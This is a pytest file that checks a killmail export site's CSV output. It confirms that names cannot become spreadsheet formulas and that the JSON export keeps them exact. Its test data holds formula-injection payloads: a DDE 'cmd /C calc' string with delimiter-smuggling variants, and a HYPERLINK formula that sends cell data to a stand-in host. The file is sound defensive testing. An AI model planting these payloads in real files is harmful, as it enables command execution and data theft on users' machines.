"""Names in a spreadsheet: none is computed, however it parts its cells; and JSON holds them as they are."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from api.exports.lines import COLUMNS
from db.universe.names import store_names
from tests.api.running_site import Browser, Site
from tests.db.bodies import body

ME, HUNTER, CORPORATION, SHIP = 90_000_010, 90_000_020, 98_000_001, 587
COMPUTED = re.compile(r"""^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]""")
NUMBERS = re.compile(r"-?[0-9]+(\.[0-9]+)?")
CALL = "cmd|' /C calc'!A0"
NAMES = [
    *(f"{sign}{CALL}" for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\t", "\r", " =", "\uff1d", "\uff20")),
    *(f"Ada{part}={CALL}" for part in (",", ";", "; ", "|", "\t", "\n", "\r\n", '"', '";', '",', '"";"')),
    '=HYPERLINK("https://evil.invalid/?"&A1;"a")',
    "-2+3",
]
HARMLESS = ["Ada-Lovelace", "J'aime = toi", "50MN Microwarpdrive II", "O'Neill", "x - y", "'quoted'", "1DQ1-A", "a@b"]


@pytest.mark.parametrize("name", NAMES)
async def test_no_name_is_a_formula(shared_site: Site, visitor: Browser, name: str) -> None:
    csv_text, ndjson = await exported(shared_site, visitor, name)
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(csv_text, newline=""), delimiter=delimiter):
            computed = [cell for cell in row if COMPUTED.match(cell) and not NUMBERS.fullmatch(cell)]
            assert computed == [], f"parted at {delimiter!r}"
    (line,) = csv.DictReader(io.StringIO(csv_text, newline=""))
    assert tuple(line) == COLUMNS
    assert line["victim"] != name
    assert line["victim"].replace("'", "") == name.replace("'", ""), "nothing but marks were added"
    told = json.loads(ndjson)
    assert told["victim"]["character"]["name"] == name, "JSON is exact"
    assert told["victim"]["ship"]["name"] == name


@pytest.mark.parametrize("name", HARMLESS)
async def test_other_names_are_left_alone(shared_site: Site, visitor: Browser, name: str) -> None:
    csv_text, _ = await exported(shared_site, visitor, name)
    (line,) = csv.DictReader(io.StringIO(csv_text, newline=""))
    assert (line["victim"], line["ship"], line["victim_corporation"]) == (name, name, name)
    assert line["security"] == "-0.5", "a number below zero stays one"


async def exported(site: Site, browser: Browser, name: str) -> tuple[str, str]:
    pool = site.pool
    account_id = await pool.fetchval("SELECT account_id FROM users WHERE character_id = $1", ME)
    await browser.sign_in(account_id or await site.add_pilot(ME))
    await site.store(body(1, victim=ME, attackers=(HUNTER,)))
    kinds = {ME: "character", HUNTER: "character", CORPORATION: "corporation", SHIP: "inventory_type"}
    await store_names(pool, [(number, kind, name) for number, kind in kinds.items()])
    await pool.execute(
        "INSERT INTO solar_systems (solar_system_id, security_status) VALUES (30000142, -0.5) ON CONFLICT DO NOTHING"
    )
    status, csv_text = await browser.get("/export/killmails.csv")
    assert status == 200
    return csv_text, (await browser.get("/export/killmails.ndjson"))[1]
